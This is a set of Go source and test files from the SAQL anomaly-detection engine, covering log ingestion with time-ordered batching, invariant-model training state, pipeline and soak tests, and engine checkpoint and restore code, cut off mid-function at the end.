			if err := pump(ctx, f, dec, b, &s.ctr, cfg.OnError); err != nil {
				return err
			}
			return drain(dec, b)
		}
		return s.follow(ctx, f, dec, b)
	}
	return s, nil
}

// follow tails the file: it consumes complete lines as they appear, holding
// back a trailing partial line until its newline arrives (a half-written
// record must not reach the codec). At each EOF the pending batch is
// flushed, so follow-mode latency is bounded by the poll interval; the file
// is then re-polled until ctx is cancelled.
func (s *Source) follow(ctx context.Context, f *os.File, dec codec.Decoder, b *batcher) error {
	lf := &lineFeeder{dec: dec, b: b, ctr: &s.ctr, onErr: s.cfg.OnError}
	page := make([]byte, 64*1024)
	ticker := time.NewTicker(followPollInterval) //saql:wallclock tail-follow polling cadence, not stream time
	defer ticker.Stop()
	for {
		n, err := f.Read(page)
		if n > 0 {
			if ferr := lf.feed(page[:n]); ferr != nil {
				return ferr
			}
			continue
		}
		if err != nil && err != io.EOF {
			return err
		}
		// EOF: bound latency, then wait for appended data or cancellation.
		if ferr := b.flush(); ferr != nil {
			return ferr
		}
		select {
		case <-ctx.Done():
			// The trailing partial line (if any) stays undecoded: it may be
			// half-written. Only the decoder's completed state drains.
			if berr := b.add(dec.Flush()); berr != nil {
				return berr
			}
			return ctx.Err()
		case <-ticker.C:
		}
	}
}
