// Package source streams raw monitoring logs into the engine: it reads lines
// from a file (optionally following appends, tail -f style), an arbitrary
// io.Reader (stdin), or a TCP listener, decodes them with an internal/codec
// Decoder, and submits the resulting events to a Submitter (the engine's
// SubmitBatch) in time-ordered batches.
//
// # Ordering
//
// Real logs are only approximately time-ordered: auditd serializes records
// from many CPUs, and a TCP source merges streams from many senders. Every
// batch is therefore sorted by event time before submission (stable, so
// equal-timestamp events keep arrival order), which gives bounded reordering
// with the batch as the window. Across batches a watermark tracks the
// maximum submitted time; an event older than the watermark can no longer be
// reordered into place, so it is either submitted late anyway (default) or
// dropped when Config.StrictOrder is set. Both outcomes are counted.
//
// # Accounting
//
// A Source keeps per-source counters (lines read, events decoded, decode
// errors, reordered/late/dropped events, batches submitted) retrievable with
// Stats at any time, including while Run is in flight.
package source

import (
	"bytes"
	"context"
	"fmt"
	"io"
	"net"
	"sort"
	"sync"
	"sync/atomic"
	"time"

	"saql/internal/codec"
	"saql/internal/event"
)

// maxLineBytes bounds one log line (auditd EXECVE records hex-encode whole
// command lines, so lines run long; beyond this is counted as a decode
// error and skipped).
const maxLineBytes = 1 << 20

// Submitter accepts decoded event batches; *saql.Engine satisfies it.
type Submitter interface {
	SubmitBatch(evs []*event.Event) error
}

// Config configures a Source.
type Config struct {
	// Format names the internal/codec decoder ("auditd", "sysmon",
	// "ndjson"). Required.
	Format string
	// Agent is the default AgentID for formats/lines without a host field.
	Agent string
	// BatchSize is the submission batch size (default 256). Each batch is
	// also the reordering window: events are sorted by time within it.
	BatchSize int
	// FlushInterval bounds how long a partial batch may sit before being
	// submitted when the input is live (follow mode, TCP). Default 200ms.
	FlushInterval time.Duration
	// StrictOrder drops events older than the submission watermark instead
	// of submitting them late (counted either way in Stats).
	StrictOrder bool
	// Follow keeps a file source alive at EOF, polling for appended data
	// (tail -f). Ignored by reader and TCP sources.
	Follow bool
	// OnError, when set, observes every per-line decode error. Decode
	// errors never stop the source; they are counted and skipped.
	OnError func(error)
	// Tenant attributes this source's events to one tenant for quota
	// accounting (saql.Engine ingest-rate budgets). Empty means the default
	// tenant. The source itself does not interpret the value.
	Tenant string
}

func (c Config) withDefaults() Config {
	if c.BatchSize <= 0 {
		c.BatchSize = 256
	}
	if c.FlushInterval <= 0 {
		c.FlushInterval = 200 * time.Millisecond
	}
	return c
}

// Stats are the per-source counters. All fields are cumulative.
type Stats struct {
	Lines        int64 // raw lines consumed (including undecodable ones)
	Events       int64 // events decoded and handed to the batcher
	DecodeErrors int64 // lines the codec rejected
	Reordered    int64 // events moved by the in-batch time sort
	Late         int64 // events older than the watermark, submitted anyway
	Dropped      int64 // events older than the watermark, dropped (StrictOrder)
	Batches      int64 // batches submitted to the engine
	// Symbol interning, scoped to this source's decoder (not the
	// process-global dictionary).
	SymbolHits    int64 // intern-table lookups served from the local table
	SymbolMisses  int64 // first-sight values (global dictionary consulted)
	SymbolEntries int64 // distinct values cached by this source's decoder
}

// Add folds o's counters into s, field by field. Engines use it to keep
// cumulative totals across detached (finished) sources.
func (s *Stats) Add(o Stats) {
	s.Lines += o.Lines
	s.Events += o.Events
	s.DecodeErrors += o.DecodeErrors
	s.Reordered += o.Reordered
	s.Late += o.Late
	s.Dropped += o.Dropped
	s.Batches += o.Batches
	s.SymbolHits += o.SymbolHits
	s.SymbolMisses += o.SymbolMisses
	s.SymbolEntries += o.SymbolEntries
}

// counters is the atomic backing store for Stats.
type counters struct {
	lines, events, decodeErrors atomic.Int64
	reordered, late, dropped    atomic.Int64
	batches                     atomic.Int64
}

func (c *counters) snapshot() Stats {
	return Stats{
		Lines:        c.lines.Load(),
		Events:       c.events.Load(),
		DecodeErrors: c.decodeErrors.Load(),
		Reordered:    c.reordered.Load(),
		Late:         c.late.Load(),
		Dropped:      c.dropped.Load(),
		Batches:      c.batches.Load(),
	}
}

// Source drives one input (reader, file, or TCP listener) into a Submitter.
// Run may be called once; Stats is safe from any goroutine at any time.
type Source struct {
	cfg  Config
	ctr  counters
	sym  codec.InternStats // decoder intern-table counters for this source
	run  func(ctx context.Context, b *batcher) error
	desc string
	addr net.Addr // bound address for TCP sources

	started atomic.Bool
}

// Stats returns a snapshot of the source's counters.
func (s *Source) Stats() Stats {
	out := s.ctr.snapshot()
	out.SymbolHits = s.sym.Hits.Load()
	out.SymbolMisses = s.sym.Misses.Load()
	out.SymbolEntries = s.sym.Entries.Load()
	return out
}

// Tenant reports the tenant this source's events are attributed to ("" for
// the default tenant).
func (s *Source) Tenant() string { return s.cfg.Tenant }

// String describes the source for logs and errors.
func (s *Source) String() string { return s.desc }

// Run consumes the input until it is exhausted (or, for follow/TCP sources,
// until ctx is cancelled), submitting decoded events to dst. It returns nil
// on a clean end of input, ctx.Err() on cancellation, and the first
// submission or I/O error otherwise. Decode errors are counted, reported to
// Config.OnError, and skipped.
func (s *Source) Run(ctx context.Context, dst Submitter) error {
	if s.started.Swap(true) {
		return fmt.Errorf("source: %s already running", s.desc)
	}
	b := &batcher{cfg: s.cfg, ctr: &s.ctr, dst: dst}
	err := s.run(ctx, b)
	if ferr := b.flush(); err == nil {
		err = ferr
	}
	return err
}

// newDecoder builds the configured codec decoder, wiring its intern-table
// counters to this source.
func (s *Source) newDecoder() (codec.Decoder, error) {
	if s.cfg.Format == "" {
		return nil, fmt.Errorf("source: no format configured")
	}
	return codec.New(s.cfg.Format, codec.Options{DefaultAgent: s.cfg.Agent, Intern: &s.sym})
}

// ---------------------------------------------------------------------------
// Batcher: time-ordered batching with a submission watermark
// ---------------------------------------------------------------------------

// batcher accumulates decoded events and submits sorted batches. It is
// locked because TCP sources feed it from one goroutine per connection.
//
// Ownership: the engine keeps a submitted batch on its ingest queue and
// consumes it asynchronously, so a slice handed to dst.SubmitBatch is never
// touched again — the pending buffer is re-sliced past it (full batches) or
// dropped entirely (flush), never rewound over it.
type batcher struct {
	cfg Config
	ctr *counters
	dst Submitter

	mu        sync.Mutex
	pending   []*event.Event
	watermark time.Time
}

// add folds decoded events in, submitting full batches as they form.
func (b *batcher) add(evs []*event.Event) error {
	if len(evs) == 0 {
		return nil
	}
	b.mu.Lock()
	defer b.mu.Unlock()
	b.ctr.events.Add(int64(len(evs)))
	b.pending = append(b.pending, evs...)
	for len(b.pending) >= b.cfg.BatchSize {
		// The full cap limits keep later appends to b.pending out of the
		// submitted batch's backing array.
		batch := b.pending[:b.cfg.BatchSize:b.cfg.BatchSize]
		b.pending = b.pending[b.cfg.BatchSize:]
		if err := b.submit(batch); err != nil {
			return err
		}
	}
	return nil
}

// flush submits whatever is pending (partial batch).
func (b *batcher) flush() error {
	b.mu.Lock()
	defer b.mu.Unlock()
	if len(b.pending) == 0 {
		return nil
	}
	batch := b.pending
	b.pending = nil
	return b.submit(batch)
}

// submit time-sorts one batch, applies the watermark policy, and hands the
// result to the Submitter. Caller holds b.mu.
func (b *batcher) submit(batch []*event.Event) error {
	if !sort.SliceIsSorted(batch, func(i, j int) bool { return batch[i].Time.Before(batch[j].Time) }) {
		before := make([]*event.Event, len(batch))
		copy(before, batch)
		sort.SliceStable(batch, func(i, j int) bool { return batch[i].Time.Before(batch[j].Time) })
		moved := int64(0)
		for i := range batch {
			if batch[i] != before[i] {
				moved++
			}
		}
		b.ctr.reordered.Add(moved)
	}
	if !b.watermark.IsZero() {
		late := 0
		for late < len(batch) && batch[late].Time.Before(b.watermark) {
			late++
		}
		if late > 0 {
			if b.cfg.StrictOrder {
				b.ctr.dropped.Add(int64(late))
				batch = batch[late:]
			} else {
				b.ctr.late.Add(int64(late))
			}
		}
	}
	if len(batch) == 0 {
		return nil
	}
	if last := batch[len(batch)-1].Time; last.After(b.watermark) {
		b.watermark = last
	}
	b.ctr.batches.Add(1)
	return b.dst.SubmitBatch(batch)
}

// ---------------------------------------------------------------------------
// Line pump: one decoder over one byte stream
// ---------------------------------------------------------------------------

// lineFeeder splits a byte stream into lines, decodes them, and feeds the
// batcher. A line longer than maxLineBytes is discarded (counted as one
// decode error) rather than terminating the source, honouring the contract
// that bad input never stops ingestion.
type lineFeeder struct {
	dec       codec.Decoder
	b         *batcher
	ctr       *counters
	onErr     func(error)
	tail      []byte // partial line awaiting its newline
	discardTo bool   // inside an over-long line, dropping until newline
}

// feedLine hands one complete line to the codec.
func (lf *lineFeeder) feedLine(line []byte) error {
	line = bytes.TrimSuffix(line, []byte("\r"))
	lf.ctr.lines.Add(1)
	evs, err := lf.dec.Decode(line)
	if err != nil {
		lf.decodeError(err)
	}
	return lf.b.add(evs)
}

func (lf *lineFeeder) decodeError(err error) {
	lf.ctr.decodeErrors.Add(1)
	if lf.onErr != nil {
		lf.onErr(err)
	}
}

// feed consumes one chunk of raw bytes, emitting every completed line.
func (lf *lineFeeder) feed(chunk []byte) error {
	lf.tail = append(lf.tail, chunk...)
	for {
		i := bytes.IndexByte(lf.tail, '\n')
		if i < 0 {
			break
		}
		line := lf.tail[:i]
		rest := lf.tail[i+1:]
		if lf.discardTo {
			// End of an over-long line: drop it and resume normally.
			lf.discardTo = false
		} else if err := lf.feedLine(line); err != nil {
			lf.tail = rest
			return err
		}
		lf.tail = rest
	}
	// Keep only the partial tail; release the consumed prefix.
	lf.tail = append([]byte(nil), lf.tail...)
	if !lf.discardTo && len(lf.tail) > maxLineBytes {
		lf.ctr.lines.Add(1)
		lf.decodeError(fmt.Errorf("source: line exceeds %d bytes, discarded", maxLineBytes))
		lf.discardTo = true
	}
	if lf.discardTo {
		lf.tail = lf.tail[:0]
	}
	return nil
}

// finish handles end of stream: a trailing unterminated line is decoded.
func (lf *lineFeeder) finish() error {
	if lf.discardTo || len(lf.tail) == 0 {
		return nil
	}
	err := lf.feedLine(lf.tail)
	lf.tail = nil
	return err
}

// pump reads r line by line through dec into b until EOF or ctx is done.
func pump(ctx context.Context, r io.Reader, dec codec.Decoder, b *batcher, ctr *counters, onErr func(error)) error {
	lf := &lineFeeder{dec: dec, b: b, ctr: ctr, onErr: onErr}
	page := make([]byte, 64*1024)
	for {
		if err := ctx.Err(); err != nil {
			return err
		}
		n, err := r.Read(page)
		if n > 0 {
			if ferr := lf.feed(page[:n]); ferr != nil {
				return ferr
			}
		}
		if err == io.EOF {
			return lf.finish()
		}
		if err != nil {
			return err
		}
	}
}

// drain flushes the decoder's buffered state (end of one stream).
func drain(dec codec.Decoder, b *batcher) error {
	return b.add(dec.Flush())
}

// ---------------------------------------------------------------------------
// Reader source
// ---------------------------------------------------------------------------

// FromReader builds a source over an arbitrary byte stream (e.g. stdin).
// Run ends when the reader reports EOF.
func FromReader(r io.Reader, cfg Config) (*Source, error) {
	cfg = cfg.withDefaults()
	s := &Source{cfg: cfg, desc: "reader:" + cfg.Format}
	dec, err := s.newDecoder()
	if err != nil {
		return nil, err
	}
	s.run = func(ctx context.Context, b *batcher) error {
		if err := pump(ctx, r, dec, b, &s.ctr, cfg.OnError); err != nil {
			return err
		}
		return drain(dec, b)
	}
	return s, nil
}
