package invariant

// Checkpoint support: a group's invariant state — the trained variables and
// the training-window counter — serialises into the wire format, so restored
// engines resume mid-training or fully trained exactly where the snapshot
// left them.

import (
	"sort"

	"saql/internal/wire"
)

// AppendState appends the invariant's runtime state: observed-window count
// and the variable values (sorted by name, so equal states encode
// identically). The spec (training depth, mode) is not encoded — it is part
// of the compiled query the state is restored into.
func (s *State) AppendState(b []byte) []byte {
	b = wire.AppendVarint(b, int64(s.windows))
	names := make([]string, 0, len(s.vars))
	for n := range s.vars {
		names = append(names, n)
	}
	sort.Strings(names)
	b = wire.AppendUvarint(b, uint64(len(names)))
	for _, n := range names {
		b = wire.AppendString(b, n)
		b = wire.AppendValue(b, s.vars[n])
	}
	return b
}

// ReadState restores the invariant's runtime state from r, replacing the
// variables the constructor initialised.
func (s *State) ReadState(r *wire.Reader) error {
	s.windows = int(r.Varint())
	n := r.Count(2)
	for i := 0; i < n && r.Err() == nil; i++ {
		name := r.String()
		s.vars[name] = r.ReadValue()
	}
	return r.Err()
}
