package invariant

import (
	"testing"

	"saql/internal/value"
)

func TestOfflineLifecycle(t *testing.T) {
	s := NewState(Spec{TrainWindows: 3, Mode: Offline}, map[string]value.Value{"a": value.EmptySet()})

	// Training phase: 3 windows, updates applied, detection off.
	for i := 0; i < 3; i++ {
		if !s.Training() {
			t.Fatalf("window %d: should be training", i)
		}
		if !s.ShouldUpdate() {
			t.Fatalf("window %d: should update during training", i)
		}
		set, _ := s.Vars()["a"].Union(value.SetOf("p" + string(rune('0'+i))))
		if detecting := s.Observe(map[string]value.Value{"a": set}); detecting {
			t.Fatalf("window %d: detection during training", i)
		}
	}

	// After training: frozen, detecting.
	if s.Training() {
		t.Error("training should be complete")
	}
	if s.ShouldUpdate() {
		t.Error("offline invariant should not update after training")
	}
	if !s.Observe(nil) {
		t.Error("detection should be active")
	}
	if s.Vars()["a"].SetLen() != 3 {
		t.Errorf("invariant = %v, want 3 members", s.Vars()["a"])
	}
	if s.WindowsSeen() != 4 {
		t.Errorf("windows seen = %d", s.WindowsSeen())
	}
}

func TestOnlineKeepsUpdating(t *testing.T) {
	s := NewState(Spec{TrainWindows: 1, Mode: Online}, map[string]value.Value{"a": value.EmptySet()})
	s.Observe(map[string]value.Value{"a": value.SetOf("x")})
	if !s.ShouldUpdate() {
		t.Error("online invariant should keep updating after training")
	}
	if !s.Observe(map[string]value.Value{"a": value.SetOf("x", "y")}) {
		t.Error("detection should be active after training window")
	}
	if s.Vars()["a"].SetLen() != 2 {
		t.Errorf("invariant = %v", s.Vars()["a"])
	}
}

func TestModeString(t *testing.T) {
	if Offline.String() != "offline" || Online.String() != "online" {
		t.Error("mode names wrong")
	}
}

func TestInitsAreCopied(t *testing.T) {
	inits := map[string]value.Value{"a": value.SetOf("seed")}
	s := NewState(Spec{TrainWindows: 1, Mode: Offline}, inits)
	// Mutating the caller's map must not affect the state.
	inits["a"] = value.EmptySet()
	if s.Vars()["a"].SetLen() != 1 {
		t.Error("initial values not copied")
	}
}
