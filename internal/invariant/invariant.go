// Package invariant implements the invariant-based anomaly model of SAQL:
// per-group invariant variables initialised once, updated over a training
// phase of N closed windows, and then used to detect violations. Offline
// mode freezes the invariant after training (the paper's Query 3); online
// mode keeps folding new windows in after detection starts.
package invariant

import (
	"saql/internal/value"
)

// Mode selects training behaviour after the training phase ends.
type Mode uint8

// Invariant training modes.
const (
	// Offline freezes the invariant after the training windows.
	Offline Mode = iota
	// Online keeps updating the invariant after detection begins.
	Online
)

// String names the mode the way SAQL spells it.
func (m Mode) String() string {
	if m == Online {
		return "online"
	}
	return "offline"
}

// Spec configures an invariant model.
type Spec struct {
	TrainWindows int  // number of training windows per group
	Mode         Mode // offline or online
}

// State is one group's invariant state.
type State struct {
	spec    Spec
	vars    map[string]value.Value
	windows int // closed windows observed so far
}

// NewState creates a group invariant with initial variable values (the
// evaluated `a := empty_set` statements).
func NewState(spec Spec, inits map[string]value.Value) *State {
	vars := make(map[string]value.Value, len(inits))
	for k, v := range inits {
		vars[k] = v
	}
	return &State{spec: spec, vars: vars}
}

// Vars exposes the invariant variables for expression evaluation. The
// returned map must not be mutated by callers; updates go through Update.
func (s *State) Vars() map[string]value.Value { return s.vars }

// Training reports whether the group is still within its training phase:
// updates are applied and detection (alerting) is suppressed.
func (s *State) Training() bool { return s.windows < s.spec.TrainWindows }

// ShouldUpdate reports whether update statements should run for the closing
// window: always during training; afterwards only in online mode.
func (s *State) ShouldUpdate() bool {
	return s.Training() || s.spec.Mode == Online
}

// Observe records one closed window. newVars, if non-nil, replaces the
// variable values (the result of evaluating the update statements); pass nil
// when ShouldUpdate() was false. It returns true if detection is active for
// this window (i.e. training had already completed before this window).
func (s *State) Observe(newVars map[string]value.Value) (detecting bool) {
	detecting = !s.Training()
	if newVars != nil {
		for k, v := range newVars {
			s.vars[k] = v
		}
	}
	s.windows++
	return detecting
}

// WindowsSeen reports how many windows the group has observed.
func (s *State) WindowsSeen() int { return s.windows }
