package saql

// End-to-end pipeline tests: per-host collection feeds → ordered merge →
// broker → engine, running concurrently the way a deployment would; plus a
// soak test asserting the engine's state stays bounded on long streams.

import (
	"context"
	"fmt"
	"sync"
	"testing"
	"time"
)

// TestStreamingPipeline wires three per-host generators into the ordered
// merge, publishes through the broker, and consumes with an engine running
// in its own goroutine — verifying the concurrent path delivers the same
// alerts as the synchronous one.
func TestStreamingPipeline(t *testing.T) {
	start := time.Date(2020, 2, 27, 9, 0, 0, 0, time.UTC)

	mkHostChan := func(agent string, kind HostKind, seed int64) <-chan *Event {
		wl, err := NewWorkload(WorkloadConfig{
			Hosts:    []Host{{AgentID: agent, Kind: kind}},
			Start:    start,
			Duration: 5 * time.Minute,
			Seed:     seed,
		})
		if err != nil {
			t.Fatal(err)
		}
		ch := make(chan *Event, 64)
		go func() {
			defer close(ch)
			for {
				ev, ok := wl.Next()
				if !ok {
					return
				}
				ch <- ev
			}
		}()
		return ch
	}

	// The attack trace is its own "host feed" (already time-ordered).
	scenario := &AttackScenario{
		Workstation: "ws-victim", MailServer: "mail-1", DBServer: "db-1",
		Start: start.Add(1 * time.Minute), StepGap: 20 * time.Second,
	}
	attackCh := make(chan *Event, 64)
	go func() {
		defer close(attackCh)
		for _, ev := range AttackEventsOnly(scenario.Events()) {
			attackCh <- ev
		}
	}()

	merged := MergeStreams(
		mkHostChan("ws-victim", Workstation, 1),
		mkHostChan("db-1", DBServer, 2),
		mkHostChan("web-1", WebServer, 3),
		attackCh,
	)

	// Broker fan-out: the engine consumes one subscription; an audit
	// counter consumes another.
	broker := NewBroker()
	engSub := broker.Subscribe(256, Block)
	auditSub := broker.Subscribe(256, Block)

	eng := New()
	exfil := scenario.DemoQueries(30*time.Second, 3)[4] // rule-c5
	if err := eng.AddQuery(exfil.Name, exfil.SAQL); err != nil {
		t.Fatal(err)
	}

	var wg sync.WaitGroup
	var alerts []*Alert
	var audited int64
	wg.Add(2)
	go func() {
		defer wg.Done()
		got, err := eng.Run(context.Background(), engSub.C)
		if err != nil {
			t.Errorf("engine run: %v", err)
		}
		alerts = got
	}()
	go func() {
		defer wg.Done()
		for range auditSub.C {
			audited++
		}
	}()

	var published int64
	var lastTime time.Time
	for ev := range merged {
		if published > 0 && ev.Time.Before(lastTime) {
			t.Fatalf("merge violated ordering at event %d", published)
		}
		lastTime = ev.Time
		broker.Publish(ev)
		published++
	}
	broker.Close()
	wg.Wait()

	if published == 0 {
		t.Fatal("pipeline delivered no events")
	}
	if audited != published {
		t.Errorf("audit subscriber saw %d of %d events", audited, published)
	}
	if len(alerts) != 1 {
		t.Errorf("exfiltration alerts = %d, want 1", len(alerts))
	}
}

// TestSoakBoundedState streams hours of events with a large rotating group
// population and asserts the engine's retained state stays bounded (group
// eviction and partial-match expiry do their jobs).
func TestSoakBoundedState(t *testing.T) {
	if testing.Short() {
		t.Skip("soak test")
	}
	eng := New()
	queries := []struct{ name, src string }{
		{"soak-ts", `proc p write ip i as e #time(1 min)
state[3] ss { amt := sum(e.amount) } group by p
alert ss[0].amt > 1000000000
return p`},
		{"soak-rule", `proc p1["%cmd.exe"] start proc p2 as e1
proc p2 write ip i as e2
with e1 -> e2
return p1, p2, i`},
	}
	for _, q := range queries {
		if err := eng.AddQuery(q.name, q.src); err != nil {
			t.Fatal(err)
		}
	}

	start := time.Date(2020, 2, 27, 0, 0, 0, 0, time.UTC)
	const hours = 4
	const perMinute = 60 // one event/second
	var n int
	for m := 0; m < hours*60; m++ {
		for i := 0; i < perMinute; i++ {
			at := start.Add(time.Duration(m)*time.Minute + time.Duration(i)*time.Second)
			// Rotating process population: ~200 live groups at any time,
			// thousands over the run.
			gen := m/10*7 + i%7
			proc := Process(fmt.Sprintf("app-%d.exe", gen), int32(1000+gen))
			eng.Process(&Event{
				Time: at, AgentID: "h",
				Subject: proc, Op: OpWrite,
				Object: NetConn("10.0.0.1", 1, fmt.Sprintf("10.1.%d.%d", gen%200, gen%250), 443),
				Amount: 1000,
			})
			n++
		}
	}
	eng.Flush()

	st := eng.Stats()
	if st.Events != int64(n) {
		t.Fatalf("processed %d of %d", st.Events, n)
	}
	// The time-series query must not have accumulated unbounded groups:
	// only recently active generations survive eviction.
	qs, _ := eng.QueryStats("soak-ts")
	if qs.WindowsClosed < int64(hours*60-1) {
		t.Errorf("windows closed = %d, want ~%d", qs.WindowsClosed, hours*60)
	}
	// Internal group count is not exported on Engine; the proxy is that
	// the run completes quickly and alert bookkeeping stays sane.
	if qs.Alerts != 0 {
		t.Errorf("threshold is unreachable; alerts = %d", qs.Alerts)
	}
}

// TestEngineConcurrentAccess exercises Engine's external thread-safety:
// queries added/removed while another goroutine processes events.
func TestEngineConcurrentAccess(t *testing.T) {
	eng := New()
	if err := eng.AddQuery("base", `proc p start proc c as e return p`); err != nil {
		t.Fatal(err)
	}
	start := time.Date(2020, 2, 27, 9, 0, 0, 0, time.UTC)

	done := make(chan struct{})
	go func() {
		defer close(done)
		for i := 0; i < 50; i++ {
			name := fmt.Sprintf("q%d", i)
			src := fmt.Sprintf(`proc p[pid > %d] start proc c as e return p`, i)
			if err := eng.AddQuery(name, src); err != nil {
				t.Errorf("AddQuery: %v", err)
				return
			}
			if i%2 == 0 {
				eng.RemoveQuery(name)
			}
		}
	}()
	for i := 0; i < 2000; i++ {
		eng.Process(&Event{
			Time: start.Add(time.Duration(i) * time.Millisecond), AgentID: "h",
			Subject: Process("cmd.exe", int32(i)), Op: OpStart, Object: Process("x", int32(i)),
		})
	}
	<-done
	if got := eng.Stats().Events; got != 2000 {
		t.Errorf("events = %d", got)
	}
}
