package saql

// Allocation-regression gate for the partitioned ingest path. The broadcast
// router cost ~9 allocations per event (a channel send and hit-set copy per
// shard); partitioned routing with pooled batch slabs must stay at or below
// two allocations per event on a steady-state mixed workload, and this test
// fails if it ever creeps back up.

import (
	"context"
	"testing"
	"time"
)

func TestIngestAllocsPerEventGate(t *testing.T) {
	if testing.Short() {
		t.Skip("allocation gate needs full runs")
	}

	eng := New(WithShards(4), WithIngestQueue(64))
	// One by-group stateful query; ~5% of events hit it. Non-matching events
	// must allocate nothing beyond the shared evaluation pass, and matching
	// events pay the fold on exactly one owning shard.
	const src = `proc p write ip i as e #time(1 h)
state ss { amt := sum(e.amount) } group by p
alert ss.amt > 1000000000000
return p, ss.amt`
	if err := eng.AddQuery("grouped-sum", src); err != nil {
		t.Fatal(err)
	}
	if err := eng.Start(context.Background()); err != nil {
		t.Fatal(err)
	}
	defer eng.Close()

	const batchSize = 512
	const batches = 4
	base := time.Date(2026, 3, 1, 0, 0, 0, 0, time.UTC)
	exes := []string{"nginx", "sshd", "postgres", "redis-server"}
	all := make([][]*Event, batches)
	n := 0
	for b := range all {
		evs := make([]*Event, batchSize)
		for i := range evs {
			ev := &Event{
				Time:    base.Add(time.Duration(n) * 13 * time.Millisecond),
				AgentID: "host-1",
				Subject: Process(exes[n%len(exes)], int32(100+n%32)),
				Amount:  float64(n % 1000),
			}
			if n%20 == 0 { // 5% hit the registered query
				ev.Op = OpWrite
				ev.Object = NetConn("", 0, "10.0.0.9", 443)
			} else {
				ev.Op = OpRead
				ev.Object = File("/var/log/syslog")
			}
			evs[i] = ev
			n++
		}
		all[b] = evs
	}

	// Warm up: pool slabs, window state, and the evaluation arena reach
	// steady state before measuring.
	for _, evs := range all {
		if err := eng.SubmitBatch(evs); err != nil {
			t.Fatal(err)
		}
	}
	if _, ok := eng.QueryStats("grouped-sum"); !ok {
		t.Fatal("query stats missing after warmup")
	}

	const eventsPerRun = batchSize * batches
	avg := testing.AllocsPerRun(5, func() {
		for _, evs := range all {
			if err := eng.SubmitBatch(evs); err != nil {
				t.Fatal(err)
			}
		}
		// The stats control rides the queue behind every submitted batch, so
		// its round trip is a full processing barrier: every allocation the
		// run causes lands inside the measured window.
		if _, ok := eng.QueryStats("grouped-sum"); !ok {
			t.Fatal("query stats missing")
		}
	})
	perEvent := avg / eventsPerRun
	t.Logf("ingest allocations: %.3f/event (%.0f per %d-event run)", perEvent, avg, eventsPerRun)
	if perEvent > 2 {
		t.Fatalf("ingest allocates %.3f/event, gate is 2/event", perEvent)
	}
	if errs := eng.Errors(); len(errs) != 0 {
		t.Fatalf("runtime reported errors: %v", errs)
	}
}
