package saql

// Durable engine state: checkpoint and restore. Checkpoint captures one
// consistent cut of the engine — the registry (query sources, compile
// options, pause flags, labels) plus every query's runtime state (open
// windows, aggregator accumulators, history rings, invariant training,
// partial multievent matches, distinct-suppression tables) — at a runtime
// control-queue barrier, so the cut rides the same total order as events,
// pause, and hot-swap. The snapshot is written atomically next to the event
// journal's segments; Restore rebuilds an equivalent engine from it and
// replays the journaled tail from the recorded stream offset, making
// recovery alert-for-alert identical to a run that was never interrupted.

import (
	"context"
	"fmt"
	"sort"
	"time"

	"saql/internal/engine"
	"saql/internal/snapshot"
	"saql/internal/storage"
)

// Checkpoint/restore errors (typed, so operators can distinguish "fresh
// directory" from "incompatible snapshot" from "bit rot").
var (
	// ErrNoCheckpoint reports that a directory holds no snapshot file.
	ErrNoCheckpoint = snapshot.ErrNoSnapshot
)

// SnapshotVersionError reports a snapshot written by a format version this
// build cannot read. Restore never guesses at an unknown layout: an
// unmigratable version fails with this error instead of corrupting state.
type SnapshotVersionError = snapshot.VersionError

// SnapshotCorruptError reports a snapshot that failed structural validation
// (bad magic, truncation, CRC mismatch, malformed fields).
type SnapshotCorruptError = snapshot.CorruptError

// WithJournal attaches a durable event journal: every event the engine
// ingests (Submit, SubmitBatch, the serial Process path, and attached log
// sources) is appended to store before it is processed, in exactly the
// processing order, so a checkpoint's stream offset indexes the journal and
// Restore can replay the tail. Journalling forces the Block backpressure
// policy — a journaled event must never be dropped, or replay would
// reprocess events the original run skipped. Engine.Close seals the store.
//
// Use the same directory for the journal store and for Checkpoint, and the
// directory becomes a self-contained recovery unit. A torn tail record
// left by a crash mid-append is trimmed automatically on first use.
// Attaching a journal that already holds records (a previous run died
// before its first checkpoint) leaves two sound choices: rebuild state
// from the orphaned records (PinJournalOffset(0), Start, ReplayJournal(0)
// — see PinJournalOffset), or ingest fresh — the engine then counts the
// existing records into its offset base so later checkpoints still index
// true journal positions (the orphans' alerts are forfeited, never
// replayed into mismatched state).
func WithJournal(store *Store) Option {
	return func(c *config) { c.journal = store }
}

// CheckpointInfo describes one written checkpoint.
type CheckpointInfo struct {
	// Path is the snapshot file written (dir/checkpoint.ckpt).
	Path string
	// Offset is the stream position of the capture barrier: the number of
	// journaled events the snapshot's state reflects.
	Offset int64
	// Queries is how many registered queries the snapshot holds.
	Queries int
}

// Checkpoint serialises a consistent snapshot of the engine into dir,
// atomically replacing any previous snapshot there. On a running engine the
// capture rides the runtime control queue: it reaches every shard at one
// point of the total event order — after everything submitted before the
// call, before anything submitted after it — exactly like pause and
// hot-swap, so the captured states, registry, and stream offset are one
// consistent cut. On a never-started engine the cut is taken under the
// scheduler lock, between two events.
//
// Checkpoint does not interrupt processing: shards resume the moment their
// state is encoded, and the journal fsync and snapshot file write happen
// after the engine lock is released, so the control plane (Register,
// Apply, Pause, Update) never stalls on disk I/O. Concurrent Checkpoint
// calls serialise against each other, so snapshots are installed in
// barrier order.
func (e *Engine) Checkpoint(dir string) (*CheckpointInfo, error) {
	// ckptMu first: it orders whole checkpoints (capture + install), so a
	// later barrier's snapshot can never be overwritten by an earlier one.
	e.ckptMu.Lock()
	defer e.ckptMu.Unlock()
	snap, err := e.captureSnapshot()
	if err != nil {
		return nil, err
	}

	// Make the journal durable up to (at least) the barrier offset before
	// installing the snapshot that names it: a snapshot must never point
	// past what the journal can replay after a power loss.
	if store := e.cfg.journal; store != nil {
		var err error
		if rt := e.rt.Load(); rt != nil {
			err = rt.WithJournalLock(store.Sync)
		} else {
			e.jmu.Lock()
			err = store.Sync()
			e.jmu.Unlock()
		}
		if err != nil {
			return nil, err
		}
	}

	path, err := snapshot.Write(dir, snap)
	if err != nil {
		return nil, err
	}
	return &CheckpointInfo{Path: path, Offset: snap.Offset, Queries: len(snap.Queries)}, nil
}

// captureSnapshot performs the in-memory half of Checkpoint — the barrier,
// the state capture, and the registry copy — under the engine lock.
func (e *Engine) captureSnapshot() (*snapshot.Snapshot, error) {
	e.mu.Lock()
	defer e.mu.Unlock()
	if engineState(e.state.Load()) == stateClosed {
		return nil, ErrClosed
	}
	if e.cfg.journal == nil {
		// Without a journal the snapshot's offset names records that exist
		// nowhere: Restore would (rightly) refuse it. Fail at capture time,
		// where the misconfiguration is fixable.
